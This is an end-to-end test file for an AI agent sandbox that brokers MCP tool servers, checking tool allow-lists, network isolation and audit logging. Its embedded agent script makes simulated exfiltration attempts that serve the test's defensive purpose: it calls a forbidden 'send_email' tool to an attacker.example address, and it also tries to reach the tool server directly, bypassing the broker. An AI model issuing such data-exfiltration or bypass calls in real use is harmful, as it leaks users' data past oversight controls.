/**
 * End to end, as a user runs it (under crun and gVisor): `aegis run` of an agent whose manifest declares two MCP tool
 * servers and no network at all. The agent (Node 18 from the egress-clients:bookworm image, with
 * the official MCP SDK copied from node_modules into its code folder) uses a real MCP client
 * over `$AEGIS_TOOLS_URL`. Behind the broker: a real MCP server built with the SDK, over
 * Streamable HTTP on HTTPS (a test CA given to the aegis process as NODE_EXTRA_CA_CERTS) on the
 * fake internet's host address, and a local stdio server that AEGIS starts confined, as nobody.
 *
 * The agent must see only the allowed tools, get the allowed call's result, be refused the
 * forbidden one, and fail to reach the HTTP server directly (the gateway refuses it); the audit
 * log must hold each of these, and verify.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { chmodSync, cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync, existsSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { AuditEvent } from '../../src/audit/event.js';
import { AEGIS_BIN, REPO_ROOT } from '../../src/test-support/repo.js';
import { startHttpMcpServer, writeStdioMcpServer, type HttpMcpServer } from '../../src/test-support/mcp-servers.js';
import { INET_GW, startFakeInternet, UPSTREAM_DNS, type FakeInternet } from './gateway-fake-internet.js';
import { requirementsOrSkip } from './gateway-support.js';
import { requireOrSkip, sandboxUnavailable } from './sandbox-conformance.js';
import { makeServerPki } from '../../src/test-support/tls.js';

/** The packages the SDK's client needs at run time (and what they need), copied into the agent's code folder. */
const CLIENT_PACKAGES = [
  '@modelcontextprotocol/sdk',
  'zod',
  'ajv',
  'ajv-formats',
  'eventsource',
  'eventsource-parser',
  'pkce-challenge',
  'cross-spawn',
  'content-type',
  'json-schema-typed',
  'zod-to-json-schema',
  'jose',
];

function copyClientModules(dest: string): void {
  const seen = new Set<string>();
  const add = (name: string): void => {
    if (seen.has(name)) return;
    const dir = join(REPO_ROOT, 'node_modules', name);
    if (!existsSync(join(dir, 'package.json'))) return;
    seen.add(name);
    const pkg = JSON.parse(readFileSync(join(dir, 'package.json'), 'utf8')) as { dependencies?: Record<string, string> };
    // The SDK's server-side dependencies (express, hono, ...) are not needed by a client.
    if (name !== '@modelcontextprotocol/sdk') for (const d of Object.keys(pkg.dependencies ?? {})) add(d);
    cpSync(dir, join(dest, 'node_modules', name), { recursive: true, dereference: true });
  };
  for (const p of CLIENT_PACKAGES) add(p);
}

const AGENT = `import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
const base = process.env.AEGIS_TOOLS_URL;
const say = (o) => console.log(JSON.stringify(o));
say({ step: 'env', base, node: process.versions.node });
async function client(name) {
  const c = new Client({ name: 'agent', version: '1.0.0' });
  await c.connect(new StreamableHTTPClientTransport(new URL(base + '/' + name + '/mcp')));
  return c;
}
for (const name of ['remote', 'local']) {
  const c = await client(name);
  say({ step: 'list', server: name, tools: (await c.listTools()).tools.map((t) => t.name).sort() });
  const r = await c.callTool({ name: 'echo', arguments: { text: 'hello from ' + name } });
  say({ step: 'echo', server: name, text: r.content[0].text });
  if (name === 'local') {
    const w = await c.callTool({ name: 'whoami', arguments: {} });
    say({ step: 'whoami', who: JSON.parse(w.content[0].text) });
  }
  try {
    await c.callTool({ name: 'send_email', arguments: { to: 'boss@attacker.example', body: 'all the mail' } });
    say({ step: 'forbidden', server: name, refused: false });
  } catch (e) {
    say({ step: 'forbidden', server: name, refused: true, code: e.code, reason: e.data && e.data.reason });
  }
  await c.close();
}
try {
  const res = await fetch(process.env.DIRECT_URL, { method: 'POST', headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'send_email', arguments: { to: 'x@attacker.example', body: 'direct' } } }),
    signal: AbortSignal.timeout(5000) });
  say({ step: 'direct', reached: true, status: res.status });
} catch (e) {
  say({ step: 'direct', reached: false, error: String(e.cause && e.cause.code || e.name) });
}
`;

describe(
  'aegis run: MCP tools brokered by AEGIS',
  { ...requirementsOrSkip(['ip', 'nft', 'crun', 'runsc', 'openssl', 'unshare', 'setpriv']), timeout: 240_000 },
  () => {
    let work = '';
    let home = '';
    let file = '';
    let inet: FakeInternet | undefined;
    let server: HttpMcpServer | undefined;
    let unavailable: string | null = null;
    let caFile = '';
    /** Asynchronous: the HTTP MCP server runs in this process and must keep answering while aegis runs. */
    const aegis = (args: string[]) =>
      new Promise<{ code: number | null; out: string; err: string }>((resolve) => {
        const child = spawn(process.execPath, [AEGIS_BIN, ...args], {
          env: {
            ...process.env,
            AEGIS_HOME: home,
            AEGIS_UPSTREAM_DNS: `${UPSTREAM_DNS}:53`,
            AEGIS_ALERT_RULES: 'none',
            // The broker verifies the remote tool server's certificate with Node's trust store.
            NODE_EXTRA_CA_CERTS: caFile,
          },
          stdio: ['ignore', 'pipe', 'pipe'],
          timeout: 120_000,
        });
        let out = '';
        let err = '';
        child.stdout.on('data', (c: Buffer) => (out += c.toString()));
        child.stderr.on('data', (c: Buffer) => (err += c.toString()));
        child.on('close', (code) => resolve({ code, out, err }));
      });

    before(async () => {
      unavailable = await sandboxUnavailable();
      work = mkdtempSync('/var/tmp/aegis-run-tools-');
      chmodSync(work, 0o755);
      home = join(work, 'home');
      mkdirSync(home);
      const code = join(work, 'agent');
      mkdirSync(code);
      chmodSync(code, 0o755);
      writeFileSync(join(code, 'agent.mjs'), AGENT);
      copyClientModules(code);
      const stdioDir = join(work, 'stdio-server');
      mkdirSync(stdioDir);
      const stdioArgv = writeStdioMcpServer(stdioDir);
      if (unavailable !== null) return;
      inet = await startFakeInternet();
      // The "remote" server: on the fake internet's host-side address, where nothing routes the agent.
      const pkiDir = join(work, 'pki');
      mkdirSync(pkiDir);
      const pki = makeServerPki(pkiDir, INET_GW, [`IP:${INET_GW}`]);
      caFile = pki.caFile;
      server = await startHttpMcpServer(INET_GW, 0, { cert: pki.cert, key: pki.key });
      file = join(code, 'agent.yaml');
      writeFileSync(
        file,
        [
          'version: "1.0"',
          'agent:',
          '  name: tools-probe',
          '  runtime: "egress-clients:bookworm"',
          '  entrypoint: ["node", "agent.mjs"]',
          `  env: { DIRECT_URL: "${server.url}" }`,
          'permissions:',
          '  execution_time: 90s',
          '  memory: 512MiB',
          'tools:',
          '  - name: remote',
          `    mcp: { url: "${server.url}" }`,
          '    allow: [echo]',
          '    timeout: 10s',
          '  - name: local',
          `    mcp: { command: ${JSON.stringify(stdioArgv)} }`,
          '    allow: [echo, whoami]',
          '',
        ].join('\n'),
      );
    });
    after(async () => {
      await server?.close();
      await inet?.close();
      rmSync(work, { recursive: true, force: true });
    });

    for (const isolation of ['crun', 'gvisor'] as const)
      it(`under ${isolation}: lists only allowed tools, forwards the allowed call, refuses the forbidden one, and the server is out of direct reach`, async (t) => {
        if (!requireOrSkip(t, unavailable ?? (await sandboxUnavailable(isolation)))) return;
        const summary = join(work, `summary-${isolation}.json`);
        const seenBefore = server!.seen.length;
        const r = await aegis(['run', file, '--isolation', isolation, '--state-dir', join(work, 'state'), '--summary', summary]);
        assert.equal(r.code, 0, `${r.out}\n${r.err}`);
        const steps = r.out
          .trim()
          .split('\n')
          .map((l) => JSON.parse(l) as Record<string, unknown>);
        const step = (name: string, server?: string) => steps.find((s) => s.step === name && (server === undefined || s.server === server));
        assert.match(server!.url, /^https:\/\//, 'the remote tool server speaks HTTPS');
        assert.match(String(step('env')?.base), /^http:\/\/10\.\d+\.\d+\.\d+:3129$/);
        assert.match(String(step('env')?.node), /^18\./);
        assert.deepEqual(step('list', 'remote')?.tools, ['echo']);
        assert.deepEqual(step('list', 'local')?.tools, ['echo', 'whoami']);
        assert.equal(step('echo', 'remote')?.text, 'hello from remote');
        assert.equal(step('echo', 'local')?.text, 'hello from local');
        assert.deepEqual(step('whoami')?.who, { uid: 65534, gid: 65534, env: ['LANG', 'PATH'] });
        for (const s of ['remote', 'local'])
          assert.deepEqual(step('forbidden', s), {
            step: 'forbidden',
            server: s,
            refused: true,
            code: -32602,
            reason: 'tool.denied.not_allowed',
          });
        assert.equal(step('direct')?.reached, false, JSON.stringify(step('direct')));
        assert.deepEqual(
          server!.seen.slice(seenBefore).map((c) => c.tool),
          ['echo'],
          'the server saw the allowed call only, never the refused or the direct one',
        );

        const { executionId } = JSON.parse(readFileSync(summary, 'utf8')) as { executionId: string };
        const q = await aegis(['audit', 'query', '--json', '--execution', executionId]);
        assert.equal(q.code, 0, q.err);
        const events = q.out
          .trim()
          .split('\n')
          .map((l) => (JSON.parse(l) as { event: AuditEvent }).event);
        const calls = events.filter((e) => e.action === 'tool.call');
        assert.deepEqual(calls.map((e) => [e.payload.server, e.payload.tool, e.payload.outcome, e.decision]).sort(), [
          ['local', 'echo', 'result', 'allow'],
          ['local', 'whoami', 'result', 'allow'],
          ['remote', 'echo', 'result', 'allow'],
        ]);
        const remoteEcho = calls.find((e) => e.payload.server === 'remote')!;
        assert.equal(remoteEcho.payload.arguments, JSON.stringify({ text: 'hello from remote' }));
        assert.equal(remoteEcho.payload.argumentsBytes, JSON.stringify({ text: 'hello from remote' }).length);
        const denied = events.filter((e) => e.action === 'tool.denied');
        assert.deepEqual(denied.map((e) => [e.payload.server, e.payload.tool, e.reason]).sort(), [
          ['local', 'send_email', 'tool.denied.not_allowed'],
          ['remote', 'send_email', 'tool.denied.not_allowed'],
        ]);
        assert.ok(
          events.some((e) => e.action === 'net.blocked' && e.decision === 'deny'),
          `the direct attempt is a gateway refusal in the log:\n${events.map((e) => `${e.action} ${e.decision} ${e.reason ?? ''}`).join('\n')}`,
        );
        const v = await aegis(['audit', 'verify']);
        assert.equal(v.code, 0, v.out + v.err);
      });

    it('examples/tools-demo: the allowed tool answers, the refused one is refused, both in the audit log', async (t) => {
      if (!requireOrSkip(t, unavailable)) return;
      const summary = join(work, 'summary-demo.json');
      const r = await aegis([
        'run',
        join(REPO_ROOT, 'examples/tools-demo/agent.yaml'),
        '--state-dir',
        join(work, 'state'),
        '--summary',
        summary,
      ]);
      assert.equal(r.code, 0, `${r.out}\n${r.err}`);
      assert.match(r.out, /^tools offered: \['get_weather'\]$/m);
      assert.match(r.out, /^get_weather: Lisbon: 18°C, light rain$/m);
      assert.match(r.out, /^send_email: refused: -32602 tool\.denied\.not_allowed - /m);
      const { executionId } = JSON.parse(readFileSync(summary, 'utf8')) as { executionId: string };
      const q = await aegis(['audit', 'query', '--json', '--execution', executionId]);
      assert.equal(q.code, 0, q.err);
      const events = q.out
        .trim()
        .split('\n')
        .map((l) => (JSON.parse(l) as { event: AuditEvent }).event);
      const call = events.find((e) => e.action === 'tool.call');
      assert.deepEqual(
        [call?.payload.tool, call?.payload.outcome, call?.payload.arguments],
        ['get_weather', 'result', '{"city":"Lisbon"}'],
      );
      const denied = events.find((e) => e.action === 'tool.denied');
      assert.deepEqual([denied?.payload.tool, denied?.reason], ['send_email', 'tool.denied.not_allowed']);
    });
  },
);
